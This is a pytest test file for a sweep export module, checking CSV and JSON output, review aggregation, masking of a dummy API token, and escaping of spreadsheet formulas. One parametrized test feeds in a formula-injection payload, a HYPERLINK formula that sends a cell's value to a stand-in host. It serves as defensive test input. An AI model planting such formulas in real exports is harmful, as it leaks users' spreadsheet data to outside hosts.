"""core.insight.export: a sweep as CSV and JSON, with nothing secret in either."""

from __future__ import annotations

import csv
import io
import json

import pytest

from core.errors import InvalidInput, NotFound
from core.insight.export import export_sweep
from core.data.models import GenerationState
from core.planning.sweeps import cell_record
from core.data.storage import LocalMediaStore, make_key
from core.insight.review import save_review
from tests.factories import at, make_generation, make_image, make_scenario, make_sweep

REVIEW_COLUMNS = ["input_file", "output_key", "output_url", "mean_rating", "n_ratings",
                  "thumbs_up", "thumbs_down", "tags", "notes", "reviewers", "reviews"]
TOKEN = "r8_AbCdEf0123456789AbCdEf0123456789abcd"


@pytest.fixture
def sweep(db_session):
    scenario = make_scenario(db_session, "projection-level-1")
    sweep = make_sweep(db_session, scenario=scenario, created_by="alice", name="strength scan",
                       created_at=at(2026, 1, 10, 8), budget_usd=2.0, estimated_cost_usd=0.05,
                       fixed_params={"negative_prompt": "blurry", "api_token": TOKEN})
    make_generation(db_session, sweep, cell_index=0, strength=0.3, cost_usd=0.01,
                    prompt='portrait, "studio", naïve', latency_s=12.5)
    make_generation(db_session, sweep, cell_index=1, strength=0.6, cost_usd=0.002,
                    state=GenerationState.FAILED, error=f"401 Unauthorized for token {TOKEN}")
    return db_session, sweep


def test_csv_has_one_row_per_cell(sweep):
    session, s = sweep
    rows = list(csv.DictReader(io.StringIO(export_sweep(session, s.id, "csv").decode("utf-8"))))
    assert [r["strength"] for r in rows] == ["0.3", "0.6"]
    assert rows[0]["prompt"] == 'portrait, "studio", naïve'
    assert rows[0]["sweep_id"] == str(s.id) and rows[0]["status"] == "succeeded"
    assert rows[1]["error"] == "401 Unauthorized for token r8_…(masked)"
    assert list(rows[0])[:len(cell_record(s.generations[0])) + 1] == [
        "sweep_id", *cell_record(s.generations[0])]
    assert list(rows[0])[-len(REVIEW_COLUMNS):] == REVIEW_COLUMNS
    assert rows[0]["n_ratings"] == "0" and rows[0]["mean_rating"] == "" and rows[0]["tags"] == ""


def test_json_has_the_sweep_and_its_cells(sweep):
    session, s = sweep
    data = json.loads(export_sweep(session, s.id, "json"))
    header = data["sweep"]
    assert header["name"] == "strength scan" and header["scenario"] == "projection-level-1"
    assert header["created_by"] == "alice" and header["created_at"].startswith("2026-01-10T08:00")
    assert header["cost_usd"] == pytest.approx(0.012)
    assert header["cells_by_state"] == {"succeeded": 1, "failed": 1}
    assert header["status"] == "finished with failures"
    assert header["fixed_params"] == {"negative_prompt": "blurry"}  # the token key is dropped
    assert [c["strength"] for c in data["cells"]] == [0.3, 0.6]
    assert data["cells"][0]["latency_s"] == 12.5


def test_no_secret_anywhere(sweep):
    session, s = sweep
    for fmt in ("csv", "json"):
        body = export_sweep(session, s.id, fmt).decode("utf-8")
        assert TOKEN not in body and "api_token" not in body


def test_empty_sweep_and_bad_requests(db_session):
    empty = make_sweep(db_session)
    header = export_sweep(db_session, empty.id, "csv").decode("utf-8").splitlines()
    assert header[0].startswith("sweep_id,id,status,strength") and len(header) == 1
    assert json.loads(export_sweep(db_session, empty.id, "json"))["cells"] == []
    with pytest.raises(InvalidInput, match="'xml'"):
        export_sweep(db_session, empty.id, "xml")
    with pytest.raises(NotFound, match="Sweep 9999"):
        export_sweep(db_session, 9999, "csv")


def test_reviews_are_in_both_exports(sweep, tmp_path):
    session, s = sweep
    image = make_image(session, label="face.png")
    rated = make_generation(session, s, cell_index=2, input_image_id=image.id,
                            output_key=make_key(b"out", kind="outputs", content_type="image/png"))
    save_review(session, rated.id, "alice", rating=4, thumbs=1, tags=["too strong"],
                note="halo; at the ear", seconds_spent=3.5)
    save_review(session, rated.id, "bob", rating=1, tags=["artifact", "too strong"])
    save_review(session, s.generations[0].id, "bob", thumbs=-1)
    store = LocalMediaStore(tmp_path / "media")
    rows = list(csv.DictReader(io.StringIO(export_sweep(session, s.id, "csv", store).decode())))
    row = next(r for r in rows if r["id"] == str(rated.id))
    assert (row["mean_rating"], row["n_ratings"], row["thumbs_up"], row["thumbs_down"]) == (
        "2.5", "2", "1", "0")
    assert row["tags"] == "artifact; too strong" and row["reviewers"] == "alice; bob"
    assert row["notes"] == "alice: halo; at the ear" and row["input_file"] == "face.png"
    assert row["output_key"] == rated.output_key and row["output_url"].startswith("file://")
    reviews = json.loads(row["reviews"])
    assert [(r["reviewer"], r["rating"], r["seconds_spent"]) for r in reviews] == [
        ("alice", 4, 3.5), ("bob", 1, None)]
    assert reviews[0]["at"].startswith("20")
    thumbs_only = rows[0]
    assert (thumbs_only["n_ratings"], thumbs_only["thumbs_down"], thumbs_only["reviewers"]) == (
        "0", "1", "bob")

    data = json.loads(export_sweep(session, s.id, "json"))
    cell = next(c for c in data["cells"] if c["id"] == rated.id)
    assert cell["mean_rating"] == 2.5 and cell["tags"] == ["artifact", "too strong"]
    assert cell["reviewers"] == ["alice", "bob"] and cell["output_url"] is None
    assert data["sweep"]["agreement"]["n_items"] == 1 and data["sweep"]["min_ratings"] is None


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1",
                                  "-2+3", "@SUM(A1)"])
def test_csv_cells_a_spreadsheet_would_run_are_escaped(db_session, text):
    """Issue 16: a prompt starting with = + - @ opens as text, not as a formula."""
    sweep = make_sweep(db_session, name=text)
    make_generation(db_session, sweep, cell_index=0, strength=-0.5, prompt=text)
    [row] = csv.DictReader(io.StringIO(export_sweep(db_session, sweep.id, "csv").decode()))
    assert row["prompt"] == "'" + text
    assert row["strength"] == "-0.5"  # numbers stay numbers
    assert json.loads(export_sweep(db_session, sweep.id, "json"))["cells"][0]["prompt"] == text
